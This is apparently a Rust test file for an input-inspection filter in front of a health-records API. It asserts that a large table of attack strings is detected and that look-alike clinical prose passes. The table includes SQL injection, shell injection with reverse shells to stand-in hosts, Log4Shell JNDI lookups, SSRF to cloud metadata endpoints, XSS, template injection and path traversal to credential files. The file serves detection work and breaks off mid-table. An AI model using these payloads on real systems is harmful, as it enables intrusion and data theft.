use super::*;
use crate::inspect::normalise::{normalise, Plus};

fn hit(raw: &str) -> Option<&'static str> {
    value(&normalise(raw.as_bytes(), Plus::Space)).map(|h| h.class.name())
}

fn rule(raw: &str) -> Option<&'static str> {
    value(&normalise(raw.as_bytes(), Plus::Space)).map(|h| h.rule)
}

/// FHIR's `markdown` fields quote names as code spans; a shell runs back-quoted text and
/// MySQL reads it as a name (R-WAF-1).
#[test]
fn markdown_code_spans_pass_and_substitutions_do_not() {
    for attack in [
        "`id`",
        "x`whoami`y",
        "a `cat notes.txt` b",
        "note `ls -la` here",
        "`bla`",
        "user'collate`nocase`--",
        "\\`or`1",
        "pick `password` from `users`",
        "`db`.`users`",
        "`ab`,`cd` and more",
        "```whoami```",
        "a ``id`` b",
        "max(`salary`) here",
        "`xy`=1 or so",
        "see `$SHELL` here",
        "run `./x` now",
        "then `/usr/bin/id` ran",
    ] {
        assert_eq!(hit(attack), Some("rce"), "{attack:?}");
    }
    for markdown in [
        "The display is equivalent to `CodeableConcept.text` (see `Observation.code`).",
        "Use `_count` and `_sort`, not `page`.",
        "Status `final` or `preliminary`: see `http://hl7.org/fhir/ValueSet/x`.",
        "`Observation.value[x]` holds the result; `code-value-concept` searches it",
        "Concepts have both a ```display``` and an array of ```designation```",
        "Coupled with the `texture.modifier`; could be in `.oralDiet.instruction`.",
        "薬は `朝食後` ではなく `code` で",
    ] {
        assert_eq!(rule(markdown), None, "{markdown:?}");
    }
}

#[test]
fn a_template_statement_needs_a_statement_name() {
    // Every engine's statement starts with its name: Jinja, Twig, Django, Liquid.
    for attack in [
        "{% if True %}49{% endif %}",
        "{%- import os %}{{ os.popen('id').read() }}",
        "{%print(7*7)%}",
        "{% for c in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
        "{%+ debug %}",
    ] {
        assert_eq!(rule(attack), Some("ssti-100"), "{attack:?}");
    }
    // A message template's placeholders are no statement (libinjection's benign set).
    for text in [
        "{% $SENDER_FULL_NAME %} BLAH BLAH",
        "Dear {% $NAME %}, your results are ready",
    ] {
        assert_eq!(rule(text), None, "{text:?}");
    }
}

/// Shapes from attack sets no earlier rule was written from (fray's payload files,
/// BRS-KB's XSS payloads), each beside the prose that looks most like it.
#[test]
fn held_out_payload_shapes_are_refused_and_their_prose_neighbours_pass() {
    for (attack, id) in [
        ("' or true() or ''='", "xpath-100"),
        ("' and not(false()) and ''='", "xpath-100"),
        (
            "' or substring(//user[position()=1]/password,1,1)='a",
            "xpath-100",
        ),
        ("'] | //*[local-name()='password'] | /a['", "xpath-110"),
        ("admin')] | //user[('1'='1", "xpath-110"),
        (
            "*)(userAccountControl:1.2.840.113556.1.4.803:=65536)",
            "ldapi-100",
        ),
        ("admin)(*", "ldapi-100"),
        ("{{_self}}", "ssti-100"),
        ("{{_self.env}}", "ssti-100"),
        ("{{#with \"e\"}}", "ssti-100"),
        ("{{{'a':'id'}.a|filter('system')}}", "ssti-100"),
        (
            "#{T(org.apache.commons.lang3.SystemUtils).IS_OS_LINUX}",
            "ssti-100",
        ),
        ("x\r\nStrict-Transport-Security:max-age=0", "crlf-100"),
        ("x\r\nX-Powered-By:Hacked", "crlf-100"),
        ("x\r\nCache-Control:no-store", "crlf-100"),
        ("x\r\nExpect:100-continue", "crlf-100"),
        ("x\r\nTrailer:X-Evil\r\n", "crlf-100"),
        ("C:\\Windows\\system.ini", "lfi-110"),
        ("/.dockerenv", "lfi-110"),
        ("/run/secrets/kubernetes.io/serviceaccount/token", "lfi-110"),
        ("/home/user/.bashrc", "lfi-110"),
        ("....//....//etc/hosts", "lfi-100"),
        ("....\\/", "lfi-100"),
        ("/var/www/html/index.php", "lfi-120"),
        ("C:\\xampp\\apache\\conf\\httpd.conf", "lfi-120"),
        ("; pwd", "rce-100"),
        ("|| pwd", "rce-100"),
        (";hostname", "rce-100"),
        (";ip addr", "rce-105"),
        ("; ip -4 addr show", "rce-105"),
        (";ss -tulpn", "rce-105"),
        ("& net user", "rce-105"),
        ("& net user hacker P@ss1 /add", "rce-105"),
        ("& net localgroup administrators", "rce-105"),
        ("& reg query HKLM\\Software", "rce-105"),
        ("; xterm -display evil.com:1", "rce-105"),
        ("; java -jar reverse.jar evil.com 4444", "rce-105"),
        ("; timeout 5 sleep 10", "rce-105"),
        ("; waitfor /t 5 pause", "rce-105"),
        ("; choice /t 5 /d y", "rce-105"),
        ("gdb -p 1", "rce-105"),
        ("pip3 install evil", "rce-105"),
        ("ldd /usr/lib/libc.so", "rce-105"),
        ("; irb", "rce-105"),
        ("irb", "rce-105"),
        ("data:text/javascript;base64,YWxlcnQoMSk=", "xss-112"),
        ("data:application/javascript,alert(1)", "xss-112"),
        ("<button formaction=//attacker/>", "xss-114"),
        (
            "<a ping=\"https://evil.com\" href=\"#\">click</a>",
            "xss-114",
        ),
        ("<div v-html=\"userInput\"></div>", "xss-114"),
        ("<div [innerHTML]='userInput'></div>", "xss-114"),
        ("<div data-bind=\"html: userInput\"></div>", "xss-114"),
        (
            "<webview src=\"https://evil.com\" nodeintegration></webview>",
            "xss-114",
        ),
        ("..%25c1%251c..%25c1%251cetc/passwd", "encoding-100"),
    ] {
        assert_eq!(rule(attack), Some(id), "{attack:?}");
    }
    for prose in [
        "Take with food or true (unsweetened) juice",
        "true or false: patient fasting",
        "Results [see page 2] | follow-up in 2 weeks",
        "Dose (am)(pm) split",
        "Left arm (mild)(*) see footnote",
        "Discussed self-care {{patient}} template",
        "{{name}} was seen today",
        "Plan:\r\nCache-Control of diet\r\nExpect: improvement\r\nTrailer: hitched",
        "Patient works as a sysadmin (Windows)",
        "IP route of administration; IP dosing",
        "net weight 70 kg; net user fees waived",
        "Timeout 5 minutes rest; timeout 10 min",
        "Java developer; desk job",
        "PWD peer group; people with diabetes",
        "Sleep 6 hours; ID card renewed",
        "data: text, not code",
        "IRB approval obtained",
        "LDD noted, right leg 1 cm shorter",
        "PIP2 levels low",
        "pip2 phosphoinositidase c",
        "GDB contact made",
        "C99 standard",
        "Wait.... / then rest",
        "Saved to C:\\Users\\taro\\scan.pdf",
        "<b>ping</b> test negative; <i>innerHTML</i> is a word",
        "BP <120 ping-pong; formaction plan",
    ] {
        assert_eq!(rule(prose), None, "{prose:?}");
    }
}

#[test]
fn a_url_ending_in_a_question_mark_is_an_include() {
    let rule = |t: &str| include_url(t).map(|h| h.rule);
    for url in [
        "http://evil.test/x.txt?",
        "https://a/b??",
        "ftp://a?",
        "file:///x?",
        "http?",
    ] {
        assert_eq!(rule(url), Some("rfi-120"), "{url}");
    }
    for text in [
        "http://evil.test/x.txt",
        "https://a/b c?",
        "httpx://a?",
        "is it http?x",
        "see http://a?",
    ] {
        assert_eq!(rule(text), None, "{text}");
    }
}

#[test]
fn query_rules_find_brackets_smuggled_lines_and_other_sites() {
    let bracket = |n: &str| bracket_name(n).map(|h| h.rule);
    for bad in [
        "foo[1]a[2]",
        "foo[1]a",
        "foo[",
        "foo[a[b]]",
        "[1]",
        "a]b[",
        "a[b]]",
    ] {
        assert_eq!(bracket(bad), Some("protocol-210"), "{bad}");
    }
    for good in [
        "ids[]",
        "filter[status]",
        "a[b][c]",
        "foo[1][2]",
        "name",
        "a]b",
    ] {
        assert_eq!(bracket(good), None, "{good}");
    }

    let line = |v: &str| query_line(v).map(|h| h.rule);
    assert_eq!(line("test\nnext=more"), Some("crlf-130"));
    assert_eq!(line("a\r\nSet-Cookie=x"), Some("crlf-130"));
    for text in [
        "line one\nline two",
        "BP 120/80\nPlan: recheck",
        "a\n=b",
        "x=1\n",
    ] {
        assert_eq!(line(text), None, "{text:?}");
    }

    let other = |v: &str, host: Option<&str>| other_origin(v, host).map(|h| h.rule);
    for (value, host) in [
        ("http://foo.bar", Some("localhost")),
        ("https://evilexample.com/", Some("localhost")),
        ("https://example.com.evil.com/", Some("example.com")),
        ("https://example.com:1234/", Some("example.com")),
        ("ftp://files.example.net", Some("phr.example.jp")),
        ("https://[2001:db8::1]/", Some("phr.example.jp")),
        ("https://example.com/", None),
    ] {
        assert_eq!(other(value, host), Some("rfi-160"), "{value} on {host:?}");
    }
    for (value, host) in [
        ("https://example.com/", Some("example.com")),
        ("https://example.com", Some("EXAMPLE.com")),
        ("https://api.example.com/", Some("example.com")),
        ("http://www.example.com/some/path", Some("example.com")),
        ("http://loinc.org|8867-4", Some("phr.example.jp")),
        ("https://foo.bar?foo=bar", Some("localhost")),
        ("http://hl7.org/fhir/sid/us-npi", Some("phr.example.jp")),
        ("see https://foo.bar", Some("localhost")),
        ("https://", Some("localhost")),
    ] {
        assert_eq!(other(value, host), None, "{value} on {host:?}");
    }
}

#[test]
fn a_host_after_an_encoded_slash_is_a_credentials_url() {
    let rule = |t: &str| credentials_url(t).map(|h| h.rule);
    for text in [
        "http://user@evil.com/",
        "http://example.com/@evil.com/",
        "http://example.com/@evil.com",
        "http://example.com/@evil.com:8080/x",
    ] {
        assert_eq!(rule(text), Some("rfi-150"), "{text}");
    }
    for text in [
        "https://mastodon.social/@user",
        "https://host/@user/123",
        "https://host/a/@evil.com/",
        "mail me at a@b.example",
    ] {
        assert_eq!(rule(text), None, "{text}");
    }
}

/// The value rules' scan finds the base64 words where `base64_words` does, and only
/// there: as written (not in another case, not where a backslash was folded to a
/// slash), beside other text, and in text that is not ASCII (scanned apart).
#[test]
fn base64_words_noted_by_the_value_scan_are_the_words_as_written() {
    let (patterns, _) = base64_patterns();
    // The scan notes where each word is (lower-cased, as `folded` holds it).
    let values = &compiled().values;
    assert!(values.notes_extra());
    let mut notes = Vec::new();
    values.first_noting("x ro0abq y", |k, at| notes.push((k, at)));
    let header = patterns.iter().position(|p| p == "rO0ABQ").unwrap();
    assert_eq!(notes, [(header, 2..8)]);
    let mut fired = 0;
    for pattern in &patterns {
        for text in [
            format!("note {pattern} end"),
            format!("x{pattern}"),
            pattern.clone(),
            format!("{} x", pattern.to_ascii_lowercase()),
            format!("{} x", pattern.to_ascii_uppercase()),
            format!("{} x", pattern.replace('/', "\\")),
            format!("血圧 {pattern}"),
        ] {
            let n = normalise(text.as_bytes(), Plus::Literal);
            let expected = base64_words(n.decoded.as_bytes()).map(|h| h.rule);
            let found = value(&n).map(|h| h.rule);
            let word = matches!(found, Some("java-130" | "nodejs-110"));
            match expected {
                // Another rule may fire first (`java-110` on `rO0ABQ` in prose).
                Some(_) => {
                    assert!(found.is_some(), "{text}");
                    assert!(!word || found == expected, "{text}: {found:?}");
                    fired += usize::from(word);
                }
                None => assert!(!word, "{text}: {found:?}"),
            }
        }
    }
    assert!(fired >= patterns.len() * 3, "named by the words: {fired}");
}

/// The one pass over a short value says "absent" only for a byte asked about and not
/// there; a long value, or a byte not asked about, may always be there.
#[test]
fn present_bytes_are_absent_only_when_asked_and_missing() {
    for &b in Present::ASKED {
        let with = format!("note {} end", char::from(b));
        assert!(Present::of(with.as_bytes()).may_hold(&[b]), "{with}");
        assert!(
            !Present::of(b"note end").may_hold(&[b]),
            "{}",
            char::from(b)
        );
        assert!(Present::of(b"x:y").may_hold(&[b':', b]));
    }
    assert!(Present::of(b"").may_hold(b"x"));
    assert!(!Present::of(b"").may_hold(b"<"));
    let long = "a".repeat(Present::SHORT);
    assert!(Present::of(long.as_bytes()).may_hold(b"<"));
}

/// The literal-gated set answers as one `RegexSet` of the same rules would, rule for rule.
#[test]
fn the_prefixed_value_set_finds_what_one_set_finds() {
    let plain = RegexSetBuilder::new(VALUE_RULES.iter().map(|r| r.pattern))
        .unicode(false)
        .build()
        .unwrap();
    let prefixed = &compiled().values;
    assert!(
        prefixed.unprefixed_rules.len() * 2 <= VALUE_RULES.len(),
        "most rules are gated: {:?}",
        prefixed.unprefixed_rules
    );
    let benign = [
        "血圧（安静時）は 120/80 mmHg。朝食後に服薬 (ok); 次回 2026-04-10",
        "At least 100 beats per minute; see http://loinc.org|8867-4",
        "the patient's union card; select a time; java lessons",
        "",
    ];
    let texts = ATTACKS
        .iter()
        .map(|(raw, _)| *raw)
        .chain(benign)
        .flat_map(|raw| {
            let folded = normalise(raw.as_bytes(), Plus::Space).folded.into_owned();
            // Each alone, and two joined: the first rule must still be the first.
            [
                folded.clone(),
                format!("{folded} {}", benign[1]),
                format!("x{folded}"),
            ]
        });
    let mut fired = 0;
    for text in texts {
        let expected = first(&plain, VALUE_RULES, &text).map(|h| h.rule);
        fired += usize::from(expected.is_some());
        let found = prefixed.first_noting(&text, |_, _| {}).map(|h| h.rule);
        assert_eq!(found, expected, "{text:?}");
    }
    assert!(fired > 50, "the comparison saw rules fire: {fired}");
}

#[test]
fn every_pattern_compiles() {
    for rule in VALUE_RULES
        .iter()
        .chain(GATED.iter().flat_map(|g| g.rules))
        .chain(NAME_RULES)
        .chain(PATH_RULES)
        .chain(FILE_NAME_RULES)
    {
        let built = regex::bytes::RegexBuilder::new(rule.pattern)
            .unicode(false)
            .build();
        assert!(built.is_ok(), "{}: {built:?}", rule.id);
    }
}

/// Found by the `normalise` fuzz target: a multi-byte character just before a `:` made
/// the SSRF scan slice inside it and panic.
#[test]
fn a_multibyte_character_before_a_colon_is_no_panic() {
    assert_eq!(hit("2)E\u{0703}:"), None);
    assert_eq!(hit("血圧:http://10.0.0.1/"), Some("ssrf"));
}

/// One attack of each kind, and the class that must find it.
const ATTACKS: &[(&str, &str)] = &[
        ("1' OR '1'='1", "sqli"),
        ("() { :; }; echo vulnerable", "rce"),
        // What stays refused of the shapes prose shares (2026-11-28, eleventh session): PHP's
        // English-named functions called as code, quoted words joined as SQL compares them,
        // cmd.exe's `if` with a comparison, Java's Velocity and Struts by package, programs
        // named as English words after a separator, an array-held function name called.
        ("system('id')", "php"),
        ("system (\"ls\")", "php"),
        ("include($x)", "php"),
        ("require ('http://x/s.txt')", "php"),
        ("exec (blah)", "php"),
        ("(['system'])[0]('uname');", "php"),
        ("x' OR 'y' LIKE 'y", "sqli"),
        ("a' or 'b' is not null --", "sqli"),
        ("admin' or 'x", "sqli"),
        ("if \"%1\"==\"\" goto x", "rce"),
        ("if (", "rce"),
        ("x; aptitude install nmap", "rce"),
        ("a|clang -o x x.c", "rce"),
        ("org.apache.velocity.app.VelocityEngine", "java"),
        // What a formula carries that no formula needs: a call other than arithmetic, a
        // subquery, a condition, a keyword in the name.
        ("id = 1 * sleep(5)", "sqli"),
        ("a = 1*(select 1)", "sqli"),
        ("x = 1 or 1=1", "sqli"),
        ("x = if(1,2,3)", "sqli"),
        ("HOPE AND 8=(3)", "sqli"),
        // sqlmap's payloads past libinjection's fingerprints (sqli-140).
        ("1' AND 4217=bit_shift(CAST('q'||(SELECT CASE WHEN (4217=4217) THEN 1 ELSE 0 END)||'q' AS INTEGER),1)-- -", "sqli"),
        ("-4217 OR 4217=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))", "sqli"),
        ("1\" OR ERROR(CONCAT('q',(SELECT (CASE WHEN (1=1) THEN '1' ELSE '0' END)),'q')) IS NOT NULL", "sqli"),
        ("1' IN BOOLEAN MODE) AND 4217=INET_ATON('q')#", "sqli"),
        ("1*/ OR ELT(4217=4217,8851)/*", "sqli"),
        ("1$$ HAVING 4217=4217-- -", "sqli"),
        ("1' OR 'kWxq'=REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(4217),0),500000000),NULL)-- -", "sqli"),
        ("1' OR NOT 4217=4217#", "sqli"),
        ("struts2.xml", "java"),
        // rce-100 at a line's start: a prose word alone on its line, or before what a
        // shell reads; rce-220 across several empty pieces; rce-105's AppArmor tools;
        // BeanShell's gadget classes.
        ("127.0.0.1\nid", "rce"),
        ("x\nls\n", "rce"),
        ("a\nping -c 1 10.0.0.1", "rce"),
        ("x; sleep 5", "rce"),
        ("a\nsleep 10\nb", "rce"),
        ("x; ping 10.0.0.1 -c 3", "rce"),
        ("x; sleep 5 && curl x", "rce"),
        ("1'\nsleep 5#", "rce"),
        ("x; kill 1234", "rce"),
        ("x; cat notes.txt", "rce"),
        ("w$@ho$@ami", "rce"),
        ("w$@h$@o$@a$@m$@i", "rce"),
        ("who``ami", "rce"),
        ("cu$v\\r\\l http://x", "rce"),
        ("pyth$@on3 -c x", "rce"),
        ("x; aa-exec -p unconfined sh", "rce"),
        ("bsh.XThis", "java"),
        // rce-240: mail commands after CRLF (SMTP, POP3, IMAP).
        ("\r\nMAIL FROM:<a@b.com>", "rce"),
        ("subject\r\nRCPT TO:<postmaster>", "rce"),
        ("\r\nEHLO test.com", "rce"),
        ("\r\nDATA", "rce"),
        ("\r\nQUIT\r\n", "rce"),
        ("\r\nHELP Postmaster", "rce"),
        ("\r\nRETR 123", "rce"),
        ("\r\nTOP 1 2", "rce"),
        (
            "\r\nAPOP corerulest 7d0a3bd8e5b2abcfb3e256633c23b891",
            "rce",
        ),
        ("\r\nAUTH corerulest dGhpc2lzIWF0ZXN0cGFzc3dvcmQ=", "rce"),
        ("\r\na001 EXAMINE INBOX", "rce"),
        ("\r\nA1 QUIT", "rce"),
        ("\r\nd store 2 +FLAGS (\\Deleted)", "rce"),
        // rce-235 … rce-239.
        ("!!", "rce"),
        ("!-1!-2", "rce"),
        ("/bin/ab", "rce"),
        ("bin/cscli", "rce"),
        (";set", "rce"),
        ("After ;top something", "rce"),
        (";trap 'rm -rf file.txt' SIGEXIT", "rce"),
        ("a=nc&&$a -nlvp 555", "rce"),
        ("|$u wget test", "rce"),
        (";$a cat test.txt", "rce"),
        ("x=Process.spawn(\"id\")", "rce"),
        ("Open3.capture2(\"id\")", "rce"),
        // rce-220's new splices.
        ("uname$u -a", "rce"),
        ("cat$u+/etc$u/passwd", "rce"),
        ("cu$v\\r\\l google.com", "rce"),
        ("ti''me sh -c whoami", "rce"),
        ("ping`` 127.0.0.1", "rce"),
        ("ping$() 127.0.0.1", "rce"),
        ("c1=c;c2=a;c3=t;$c1$c2$c3 x", "rce"),
        // rce-100, -105, -106, -110, -120, -141, -190, -200, -210 as widened.
        ("ifconfig;. rm -rf /", "rce"),
        ("cscli alerts list", "rce"),
        ("'cscli' alerts list", "rce"),
        ("aa-disable php-fpm", "rce"),
        ("python3.10 cmd", "rce"),
        (";gcc10.1<<<void main(){}", "rce"),
        ("visudo", "rce"),
        ("; regedit /E c:\\ads\\file.txt", "rce"),
        ("$SHELL -c \"echo hi\"", "rce"),
        (";ex dddd +silent\\ \\!whoami +wq", "rce"),
        (";ex -c:\\!pwd", "rce"),
        ("f(){ f|f& };f", "rce"),
        ("if/i a==b foo", "rce"),
        ("set -o history", "rce"),
        ("time who", "rce"),
        ("\"time\" who", "rce"),
        ("ll /var/www/", "rce"),
        ("rc script.sh", "rce"),
        ("cd /;cd etc;fold passwd", "rce"),
        ("cat /[e////]tc/[p//]asswd", "rce"),
        ("~0", "rce"),
        ("{,echo,#test}", "rce"),
        ("{,$'whoami',}", "rce"),
        ("{/?s?/?i?/c?t,}", "rce"),
        ("; ${PATH:0:1}bin${PATH:0:1}id", "rce"),
        ("*{7*7}", "ssti"),
        ("x = 1%(select 1)", "sqli"),
        ("dl('x.so')", "php"),
        ("; sleep 5", "rce"),
        ("; id", "rce"),
        ("..%u2215..%u2215..%u2215etc%u2215passwd", "lfi"),
        ("..\u{2216}..\u{2216}windows\u{2216}win.ini", "lfi"),
        ("\\nid\\n", "rce"),
        ("\\n/bin/ls -al\\n", "rce"),
        (";id\\n", "rce"),
        ("& id", "rce"),
        ("\n id \n", "rce"),
        ("<!--#exec cmd=\"id\"-->", "rce"),
        ("<!--#include virtual=\"/etc/passwd\"-->", "rce"),
        ("*(|(mail=*))", "ldapi"),
        ("hi or a=a", "sqli"),
        (") or (x = x", "sqli"),
        ("; or '1'='1'", "sqli"),
        ("\"hi\"\") or (\"\"a\"\"=\"\"a\"", "sqli"),
        ("' -- &password=", "sqli"),
        ("uni/**/on sel/**/ect 1", "sqli"),
        ("'||UTL_HTTP.REQUEST('http://x.example/')", "sqli"),
        ("; echo $((1+1))", "rce"),
        ("x;id", "rce"),
        ("x | id", "rce"),
        ("`id`", "rce"),
        ("`sleep 5`", "rce"),
        ("; /usr/bin/id", "rce"),
        ("admin\\' or glob (id,id);", "sqli"),
        ("foo=\";\\n.shell nc 10.10.10.1 6666 -e sh", "rce"),
        ("() {", "rce"),
        ("1;.sh whoami", "rce"),
        ("x;\n.databases", "rce"),
        ("1;.\\\"shell whoami", "rce"),
        ("d=/dev&&(sh)0>$d/tcp/192.0.2.1/777", "rce"),
        ("cat /et*/*wd", "rce"),
        ("/bin/ca?/x", "rce"),
        ("$[1*3]", "rce"),
        ("alias -p jzfrx=id", "rce"),
        ("alias %2Bm a=b", "rce"),
        (";date -f secrets.txt", "rce"),
        (";ssh-copy-id user@server", "rce"),
        ("; ssh admin@192.0.2.1", "rce"),
        ("$[]", "rce"),
        ("aaa%0aGET+/+HTTP/1.1", "protocol"),
        ("GET%20http%3A%2F%2Fwww.foo.bar%20HTTP%2F1.2", "protocol"),
        ("unix:AAAAAAAAA|http://coreruleset.org/", "protocol"),
        ("console.info(1)", "nodejs"),
        ("c\\u006fnsole.info(1)", "nodejs"),
        ("process[\"env\"]", "nodejs"),
        ("%23%7Brequire.main.constructor._load%28foo%29%7D", "nodejs"),
        ("while(!false)", "nodejs"),
        ("while(new%20Date)", "nodejs"),
        ("while((true)))", "nodejs"),
        ("require.main", "nodejs"),
        ("java.Runtime", "java"),
        ("@{[ system 'id' ]}", "rce"),
        ("test<?", "php"),
        ("<?\techo \"test\";?>", "php"),
        ("$_(3)", "php"),
        ("$a //x\n()", "php"),
        ("ldap_get_entries()", "php"),
        ("posix_getegid (", "php"),
        ("\"system\"(ls);", "php"),
        ("('system')('whoami')", "php"),
        ("[system][0](ls);", "php"),
        ("$y = 'sys'.'tem';", "php"),
        ("${'ff'}", "php"),
        ("exec /*comment*/ ()", "php"),
        // CRS 933120, 933150, 933160, 933161, 933180, 933210, 934170, 9331200.
        ("opcache.jit_max_polymorphic_calls=50", "php"),
        ("memory_limit = 512M", "php"),
        ("allow_url_include=1", "php"),
        ("FOOcall_user_func()", "php"),
        ("I don't like gzuncompress/*comment*/()", "php"),
        ("exec //comment\r\n (blah)", "php"),
        ("exec #comment\n (blah)", "php"),
        ("touch/*a\r\nb*/()", "php"),
        ("FILE\r\n()", "php"),
        ("strip_tags()", "php"),
        ("intval(foo)", "php"),
        ("$OOO0000O0 (16)", "php"),
        ("$____[_]{_}[@_](25)", "php"),
        ("define('z', [['sys' .'tem']]);(z)[0][0]('uname');", "php"),
        ("\"\\x73y\\x73tem\"(ls);", "php"),
        ("data:text/plain;base64,SSBsb3ZlIFBIUAo=", "rfi"),
        ("compress.bzip2://file.bz2", "rfi"),
        ("http://example.com%2f:asd@evil.com/", "rfi"),
        ("ssh2.shell://user:pw@example.com:22/xterm", "rfi"),
        (":(){ :|:& };:", "rce"),
        ("alias ls-al='ls -al'", "rce"),
        ("/???/?s", "rce"),
        ("www.google.com;/bin/ca?+/et*/passwd", "rce"),
        // CRS 932160, 932230, 932235, 932236: command lines without a separator before.
        ("cat /path/file.gz", "rce"),
        ("time sh -c whoami", "rce"),
        ("env --version", "rce"),
        ("bash -c \"echo test\"", "rce"),
        ("/usr/bin/perl -e 'print readline' some-file.txt", "rce"),
        ("cd /;cd etc;column passwd", "rce"),
        // CRS 932270, 932280, 932260, 932380.
        ("%7E%2B", "rce"),
        ("~-1", "rce"),
        ("{l,-lh}s", "rce"),
        ("c{a,oun}t", "rce"),
        ("{,ifconfig}", "rce"),
        ("{id,}", "rce"),
        ("x;{cat,passwd}", "rce"),
        ("a{l,-lh}s", "rce"),
        ("x{id,}", "rce"),
        // CRS 932200, 932240, 932290: a word split by what a shell drops.
        ("www.google.com;c$@at+/et$@c/pas$@swd", "rce"),
        ("c$$at notes.txt", "rce"),
        ("una$_me -a", "rce"),
        ("pi``ng 127.0.0.1", "rce"),
        ("pi$()ng 127.0.0.1", "rce"),
        ("cu${}rl evil.test", "rce"),
        ("'i'fconfig", "rce"),
        ("\"w\"get localhost", "rce"),
        ("x; 'wh'oami", "rce"),
        ("perf --version", "rce"),
        ("view=image.jpg&bcdboot < file.txt", "rce"),
        (";'curl' http://evil.com", "rce"),
        ("/path/to/.docker/secrets", "lfi"),
        (">/tmp/curl", "lfi"),
        ("backup.sql.zip", "lfi"),
        ("0x5c0x2e./", "lfi"),
        ("1 UNION SELECT password FROM users--", "sqli"),
        ("%27%20or%201%3D1--", "sqli"),
        ("<script>alert(1)</script>", "xss"),
        ("%253Cscript%253Ealert(1)", "xss"),
        ("＜ｓｃｒｉｐｔ＞alert(1)", "xss"),
        ("<img src=x onerror=alert(1)>", "xss"),
        ("javascript:alert(document.cookie)", "xss"),
        ("../../../../etc/passwd", "lfi"),
        ("..%5c..%5cwindows%5cwin.ini", "lfi"),
        ("php://filter/convert.base64-encode/resource=index", "rfi"),
        ("ftp://1.1.1.1/x", "rfi"),
        ("jar:http://evil.co/b.zip!a", "rfi"),
        ("http://66.240.183.75/crash.php", "rfi"),
        ("https://[2001:41d0:701:1100::29c8]/gecko.php", "rfi"),
        ("https://foo.bar?", "rfi"),
        ("$&LBRACE;jndi:ldap://evil.com/webshell}", "jndi"),
        ("%24%5Cu007Bjndi%3Aldap%3A%2F%2Fevil.com%2Fx%7D", "jndi"),
        ("document /*foo*/ .     cookie", "xss"),
        ("self[\"alert\"](1)", "xss"),
        ("x\";setTimeout(name, 1)//", "xss"),
        ("%2B!![]", "xss"),
        ("%2bADw-script%2bAD4-", "xss"),
        ("{{constructor.constructor('alert(1)')()}}", "xss"),
        ("<v:vmlframe src=\"foo.com/sup.fml\"/>", "xss"),
        ("printer)(uid=*)", "ldapi"),
        ("*)!(sn=*", "ldapi"),
        ("val)|(uid=*", "ldapi"),
        ("test) ( & ", "ldapi"),
        ("{\"username__startswith\":\"p\"}", "orm-injection"),
        ("; cat notes.txt", "rce"),
        ("| whoami", "rce"),
        ("$(id)", "rce"),
        ("() { :; }; /bin/bash -c id", "rce"),
        ("${jndi:ldap://evil.example/a}", "jndi"),
        ("${${lower:j}${::-n}di:ldap://evil.example/a}", "jndi"),
        ("${${env:X:-j}ndi${date:':'}ldap://e/a}", "jndi"),
        ("{{7*7}}", "ssti"),
        ("#set($x=7*7)$x", "ssti"),
        ("true, $where: '1 == 1'", "nosql"),
        ("' } ], $comment:'successful MongoDB injection'", "nosql"),
        ("db.injection.insert({success:1});", "nosql"),
        ("';return 'a'=='a' && ''=='", "nosql"),
        ("0;return true", "nosql"),
        (
            "';it=new Date();do{pt=new Date();}while(pt-it<5000);",
            "nosql",
        ),
        ("|| 1==1", "sqli"),
        ("x' || 'a' == 'a", "sqli"),
        ("{{dump(app)}}", "ssti"),
        (
            "{{app.request.query.filter(0,0,1024,{'options':'system'})}}",
            "ssti",
        ),
        ("#foreach($i in [1..3])$i#end", "ssti"),
        ("{{ config.items() }}", "ssti"),
        ("<?php system('id'); ?>", "php"),
        ("java.lang.Runtime.getRuntime()", "java"),
        ("cnVudGltZQ", "java"),
        ("x=rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9u", "java"),
        (
            "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
            "java",
        ),
        ("{\"$where\": \"this.a == 1\"}", "nosql"),
        ("__proto__[admin]=1", "prototype-pollution"),
        ("x%0d%0aLocation:%20http://e.example/", "crlf"),
        ("http://169.254.169.254/latest/meta-data/", "ssrf"),
        ("http://169.254.169.254.nip.io/latest/", "ssrf"),
        ("http://localhost./", "ssrf"),
        ("//evil.example/shell.txt", "rfi"),
        ("http://evil.example/shell.txt#", "rfi"),
        ("${env:AWS_SECRET_ACCESS_KEY}", "jndi"),
        ("${sys:user.home}", "jndi"),
        (
            "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
            "jndi",
        ),
        ("${j${k8s:k5:-ND}i:ldap://x.example/a}", "jndi"),
        (
            "http://metadata.google.internal./computeMetadata/v1/",
            "ssrf",
        ),
        ("http://127.1./", "ssrf"),
        ("http://app.10.0.0.5.nip.io/", "ssrf"),
        ("https://magic-127-0-0-1.sslip.io/admin", "ssrf"),
        ("http://7f000001.nip.io/", "ssrf"),
        ("http://127.0.0.1.attacker.example/", "ssrf"),
        ("http://127.0.0.1:8080/admin", "ssrf"),
        ("http://[::1]/", "ssrf"),
        ("http://2130706433/", "ssrf"),
        ("http://7147006462/", "ssrf"),
        ("strace who", "rce"),
        ("time; ansible-playbook site.yml", "rce"),
        ("pip3 install something", "rce"),
        ("FOOGzInFlAtE()", "php"),
        ("#{process.binding(foo).spawn(foo2)}", "nodejs"),
        ("while(!0);", "nodejs"),
        ("file_ExistS (\n\n)", "php"),
        ("$__['o'](5)", "php"),
        ("(/* comment */system)(ls/* comment */);", "php"),
        (";vim -c:\\!pwd", "rce"),
        ("IF NOT EXIST C:\\x CMD", "rce"),
        ("if /i a==b foo", "rce"),
        ("for /f \"tokens=*\" %G in ('dir /b') do echo %G", "rce"),
        ("http://169。254。169。254/", "ssrf"),
        ("localhost/admin", "ssrf"),
        ("host.docker.internal:2375/containers", "ssrf"),
        ("kubernetes.default.svc.cluster.local/api", "ssrf"),
        // Found outside the shared corpora (2026-11-27, eighth session).
        ("https://kubernetes.default.svc/api", "ssrf"),
        ("http://kubernetes/api/v1/secrets", "ssrf"),
        ("http://redis.prod.svc:6379/", "ssrf"),
        // Found in fray's SSRF payloads (2026-11-28, twelfth session).
        ("http://consul.service.consul:8500/v1/agent/members", "ssrf"),
        ("http://printer.local/", "ssrf"),
        ("https://router.home.arpa/admin", "ssrf"),
        ("127.0.0.1&&dir", "rce"),
        ("{{7*'7'}}", "ssti"),
        ("{{'a'.toUpperCase()}}", "ssti"),
        ("@(7*7)", "ssti"),
        ("%{7*7}", "ssti"),
        ("{$smarty.version}", "ssti"),
        (
